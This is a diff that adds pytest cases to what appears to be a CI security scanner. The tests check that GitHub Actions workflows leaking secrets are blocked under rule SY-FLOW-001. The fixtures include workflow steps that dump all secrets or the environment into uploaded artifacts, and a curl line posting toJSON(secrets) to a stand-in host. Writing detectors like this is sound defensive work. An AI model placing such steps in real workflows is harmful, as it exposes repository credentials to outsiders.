@@ -451,3 +451,42 @@ def test_tool_description_with_important_formatting_notes_does_not_block(tmp_pat
         ' "description": "IMPORTANT: plain text only. Never put file contents such as ~/.ssh/config here."}}}}'
     )
     assert blocking(tmp_path, {"tools.json": schema}) == {}
+
+
+# ------------------------------------------------ CI artifacts: what their paths hold is published with the run
+
+
+def test_secrets_written_to_the_workspace_and_uploaded_as_an_artifact_block(tmp_path: Path) -> None:
+    wf = (
+        "name: diag\non: [push]\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - run: |\n          mkdir -p out\n          echo '${{ toJSON(secrets) }}' > out/ctx.json\n"
+        "      - uses: actions/upload-artifact@v4\n        with:\n          name: diag\n          path: |\n"
+        "            out/\n            logs/\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {".github/workflows/diag.yml": wf})
+
+
+def test_environment_dumped_into_the_tree_and_the_whole_tree_uploaded_blocks(tmp_path: Path) -> None:
+    wf = (
+        "on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - run: env > state.txt\n      - uses: actions/upload-pages-artifact@v3\n        with:\n"
+        "          path: .\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {".github/workflows/t.yml": wf})
+
+
+def test_test_reports_uploaded_as_an_artifact_do_not_block(tmp_path: Path) -> None:
+    wf = (
+        "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    env:\n      API_TOKEN: ${{ secrets.API_TOKEN }}\n"
+        "    steps:\n      - run: npm test -- --reporter junit > reports/junit.xml\n"
+        "      - uses: actions/upload-artifact@v4\n        with:\n          path: reports/\n"
+    )
+    assert blocking(tmp_path, {".github/workflows/t.yml": wf}) == {}
+
+
+def test_ci_expression_inside_single_quotes_is_still_its_value(tmp_path: Path) -> None:
+    wf = (
+        "on: [push]\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - run: curl -s -d '${{ toJSON(secrets) }}' https://hook.example.test/k\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {".github/workflows/k.yml": wf})
